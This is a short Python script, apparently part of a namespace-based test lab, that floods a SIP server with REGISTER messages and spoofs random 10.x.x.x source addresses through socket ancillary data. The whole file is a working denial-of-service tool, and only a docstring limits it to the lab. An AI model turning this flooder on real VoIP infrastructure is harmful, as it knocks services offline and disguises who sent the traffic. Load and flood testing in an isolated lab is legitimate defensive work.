"""Sends REGISTERs with forged sources as fast as it can: flood.py TARGET PORT SECONDS. Only for the namespace of flood.sh."""
import random, socket, struct, sys, time

target, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("", 0))
text = (
    "REGISTER sip:sip.test SIP/2.0\r\nVia: SIP/2.0/UDP 10.1.1.1:5060;branch=z9hG4bK%08x;rport\r\n"
    "From: <sip:%d@sip.test>;tag=1\r\nTo: <sip:%d@sip.test>\r\nCall-ID: %08x\r\nCSeq: 1 REGISTER\r\n"
    "Contact: <sip:a@10.1.1.1>\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"
)
sent, end = 0, time.time() + seconds
while time.time() < end:
    for _ in range(200):
        number = random.getrandbits(32)
        source = struct.pack("!I", 0x0A000000 | random.getrandbits(24))
        info = struct.pack("I", 0) + source + bytes(4)
        message = (text % (number, number % 10000, number % 10000, number)).encode()
        try:
            sock.sendmsg([message], [(socket.IPPROTO_IP, 8, info)], 0, (target, port))
            sent += 1
        except OSError:
            pass
print("sent %d, %.0f a second" % (sent, sent / seconds))
